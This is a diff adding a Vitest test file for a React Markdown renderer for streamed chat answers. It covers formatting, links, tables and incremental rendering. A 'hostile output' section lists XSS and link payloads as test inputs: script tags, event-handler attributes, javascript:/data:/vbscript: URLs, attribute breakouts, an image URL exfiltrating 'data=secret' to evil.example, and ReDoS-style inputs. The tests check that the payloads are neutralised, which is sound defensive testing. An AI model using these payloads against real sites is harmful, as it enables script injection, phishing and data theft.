@@ -1,0 +1,210 @@
+import { renderToStaticMarkup } from 'react-dom/server';
+import { describe, expect, it } from 'vitest';
+import { Markdown } from './markdown.tsx';
+import { plainText } from './plain-text.ts';
+
+const html = (text: string, streaming = false): string =>
+  renderToStaticMarkup(<Markdown text={text} streaming={streaming} />);
+
+const ATTRIBUTES = 'target="_blank" rel="noopener noreferrer nofollow"';
+const anchor = (href: string, label: string): string => `<a href="${href}" title="${href}" ${ATTRIBUTES}>${label}</a>`;
+
+describe('markdown', () => {
+  it.each([
+    ['plain', '<p>plain</p>'],
+    ['a **bold** and *slanted* word', '<p>a <strong>bold</strong> and <em>slanted</em> word</p>'],
+    ['***both***', '<p><strong><em>both</em></strong></p>'],
+    ['**bold with *inner* text**', '<p><strong>bold with <em>inner</em> text</strong></p>'],
+    ['*inner **bold***', '<p><em>inner <strong>bold</strong></em></p>'],
+    ['__bold__ _slanted_ ~~gone~~', '<p><strong>bold</strong> <em>slanted</em> <s>gone</s></p>'],
+    ['snake_case_name and 2 * 3 * 4', '<p>snake_case_name and 2 * 3 * 4</p>'],
+    [String.raw`\*not\* this`, '<p>*not* this</p>'],
+    ['`a *b*` and ``x ` y``', '<p><code>a *b*</code> and <code>x ` y</code></p>'],
+    ['first\nsecond', '<p>first<br/>second</p>'],
+    ['one\n\ntwo', '<p>one</p><p>two</p>'],
+    ['# Title\ntext', '<h3>Title</h3><p>text</p>'],
+    ['###### Deep', '<h6>Deep</h6>'],
+    ['- a\n- b\n  - c', '<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>'],
+    ['3. three\n4. four', '<ol start="3"><li>three</li><li>four</li></ol>'],
+    ['- a\n\n- b', '<ul><li>a</li><li>b</li></ul>'],
+    ['1. one\n\n   more\n2. two', '<ol start="1"><li>one<p>more</p></li><li>two</li></ol>'],
+    ['> said\n> so', '<blockquote><p>said<br/>so</p></blockquote>'],
+    ['a\n\n---\n\nb', '<p>a</p><hr/><p>b</p>'],
+    ['Order | total', '<p>Order | total</p>'],
+  ])('[UI2] renders %j', (source, expected) => {
+    expect(html(source)).toBe(expected);
+  });
+
+  it('[UI2] renders fenced code as it is', () => {
+    expect(html('```js\nif (a < b) {\n  go();\n}\n```\nafter')).toBe(
+      '<pre tabindex="0" data-language="js"><code>if (a &lt; b) {\n  go();\n}</code></pre><p>after</p>',
+    );
+  });
+
+  it('[UI2] renders tables with their alignment, and fills rows that are too short', () => {
+    const table = html('| Item | Price |\n|:---|---:|\n| **Pro** | 1 \\| 2 |\n| Kit |');
+    expect(table).toContain('<th scope="col" data-align="end">Price</th>');
+    expect(table).toContain('<td data-align="start"><strong>Pro</strong></td><td data-align="end">1 | 2</td>');
+    expect(table).toContain('<td data-align="start">Kit</td><td data-align="end"></td>');
+  });
+
+  it.each([
+    ['[site](https://example.com/a?b=1&c=2)', 'https://example.com/a?b=1&amp;c=2', 'site'],
+    ['[mail](mailto:help@example.com)', 'mailto:help@example.com', 'mail'],
+    ['[titled](https://example.com/ "A title")', 'https://example.com/', 'titled'],
+    ['<https://example.com/x>', 'https://example.com/x', 'https://example.com/x'],
+    ['https://example.com/y', 'https://example.com/y', 'https://example.com/y'],
+    ['[**bold**](https://example.com/)', 'https://example.com/', '<strong>bold</strong>'],
+    ['[wiki](https://example.com/a_(b))', 'https://example.com/a_(b)', 'wiki'],
+  ])('[UI2] links %j', (source, href, label) => {
+    expect(html(source)).toBe(`<p>${anchor(href, label)}</p>`);
+  });
+
+  it('[UI2] leaves the punctuation of the sentence out of a bare address', () => {
+    expect(html('(see https://example.com/a).')).toBe(
+      `<p>(see ${anchor('https://example.com/a', 'https://example.com/a')}).</p>`,
+    );
+  });
+});
+
+describe('hostile output', () => {
+  it.each([
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<svg/onload=alert(1)>',
+    '**<iframe src="https://evil.example"></iframe>**',
+    '`</code><script>alert(1)</script>`',
+    '```html\n</code></pre><script>alert(1)</script>\n```',
+    '```"><script>\nx\n```',
+    '| <b onclick=alert(1)> | x |\n|---|---|\n| <style>*{}</style> | y |',
+    '- <form action=https://evil.example><input>',
+    '# <math><mtext></mtext></math>',
+    '> <object data=x>',
+  ])('[SC6] shows markup as text: %j', (source) => {
+    for (const streaming of [false, true]) {
+      const tags = html(source, streaming).match(/<\/?[a-z][a-z0-9]*/g) ?? [];
+      expect(
+        tags.every((tag) => /^<\/?(?:p|code|pre|strong|ul|li|h3|div|table|thead|tbody|tr|th|td|blockquote|br)$/.test(tag)),
+      ).toBe(true);
+    }
+  });
+
+  it.each([
+    '[x](javascript:alert(1))',
+    '[x](JaVaScRiPt:alert(1))',
+    '[x](java\tscript:alert(1))',
+    '[x]( javascript:alert(1))',
+    '[x](\u0001javascript:alert(1))',
+    '[x](data:text/html;base64,PHNjcmlwdD4=)',
+    '[x](vbscript:x)',
+    '[x](file:///etc/passwd)',
+    '[x](blob:https://example.com/1)',
+    '[x](//evil.example/)',
+    '[x](/logout)',
+    '[x](#top)',
+    '[x](https://bank.example@evil.example/)',
+    '[x](https://user:pass@evil.example/)',
+    '<javascript:alert(1)>',
+    '![x](javascript:alert(1))',
+    '[![x](javascript:alert(1))](data:text/html,x)',
+  ])('[SC6] makes no link of %j', (source) => {
+    for (const streaming of [false, true]) expect(html(source, streaming)).not.toContain('href');
+  });
+
+  it('[SC6] never loads an image, it links to it', () => {
+    const out = html('![a cat](https://evil.example/pixel.png?data=secret)');
+    expect(out).toBe(`<p>${anchor('https://evil.example/pixel.png?data=secret', 'a cat')}</p>`);
+  });
+
+  it('[SC6] cannot break out of an attribute', () => {
+    const out = html('[x](https://example.com/"onmouseover="alert(1))\n\n```x"onclick="alert(1)\ny\n```');
+    expect(out).not.toMatch(/\son\w+=/);
+  });
+
+  it('[SC6] puts no link inside a link', () => {
+    expect(html('[a [b](https://evil.example/) c](https://example.com/)').match(/<a /g)).toHaveLength(1);
+    expect(html('[https://bank.example/](https://evil.example/)').match(/<a /g)).toHaveLength(1);
+  });
+
+  it.each([
+    ['nested quotes', '>'.repeat(5_000)],
+    ['nested lists', Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n')],
+    ['asterisks', '*a '.repeat(5_000)],
+    ['long runs', '*'.repeat(20_000)],
+    ['alternating runs', '*a**b'.repeat(4_000)],
+    ['brackets', '['.repeat(20_000)],
+    ['bracket pairs', '[a]'.repeat(8_000)],
+    ['open links', '[a]('.repeat(8_000)],
+    ['nested images', '!['.repeat(10_000)],
+    ['backticks', '`a``b'.repeat(5_000)],
+    ['underscores', '_a_b'.repeat(5_000)],
+    ['pipes', `${'|'.repeat(3_000)}\n${'|-'.repeat(3_000)}|`],
+    ['addresses', 'https://'.repeat(4_000)],
+    ['angles', '<https://a'.repeat(4_000)],
+  ])('[SC6] stays fast and shallow for %s', (_name, source) => {
+    for (const streaming of [false, true]) {
+      const start = performance.now();
+      html(source, streaming);
+      plainText(source);
+      expect(performance.now() - start).toBeLessThan(1_500);
+    }
+  });
+});
+
+describe('text that still grows', () => {
+  const answer = [
+    'Your order **ORD-5678** is *on its way*; see `TRK-111` and [the carrier](https://example.com/t).',
+    '',
+    '## Items',
+    '| Item | Price |',
+    '|---|---:|',
+    '| Widget Pro | $99.98 |',
+    '',
+    '1. first',
+    '2. **second**',
+    '',
+    '```js',
+    'const a = 1;',
+    '```',
+    'Done.',
+  ].join('\n');
+
+  /** What a reader sees, apart from how it looks. */
+  const textOf = (markup: string): string => markup.replaceAll(/<[^>]+>/g, '').replaceAll('&amp;', '&');
+
+  it('[UI2] never shows half of a construct as raw markup', () => {
+    for (let length = 1; length <= answer.length; length += 1) {
+      expect(textOf(html(answer.slice(0, length), true)), JSON.stringify(answer.slice(0, length))).not.toMatch(
+        /[*`#|[\]]|\]\(|---|https:/,
+      );
+    }
+  });
+
+  it('[UI2] only ever adds to what is shown', () => {
+    let shown = '';
+    for (let length = 1; length <= answer.length; length += 1) {
+      const next = textOf(html(answer.slice(0, length), true));
+      expect(next.startsWith(shown), `${JSON.stringify(shown)} → ${JSON.stringify(next)}`).toBe(true);
+      shown = next;
+    }
+    expect(textOf(html(answer))).toBe(shown);
+  });
+
+  it('[SC6] offers no address that is not complete', () => {
+    expect(html('see [it](https://example.com/a', true)).toBe('<p>see it</p>');
+    expect(html('see https://exam', true)).toBe('<p>see https://exam</p>');
+  });
+
+  it('[UI2] keeps literal markers once the text is complete', () => {
+    expect(html('a [lone bracket, and **half')).toBe('<p>a [lone bracket, and **half</p>');
+  });
+});
+
+describe('plain text', () => {
+  it('[UI4] says what an answer says, without its markup', () => {
+    expect(plainText('# Hi\nYour **order** is `here`: [track](https://e.example)\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |')).toBe(
+      'Hi\nYour order is here: track\na\nb\nx, y\n1, 2',
+    );
+  });
+});
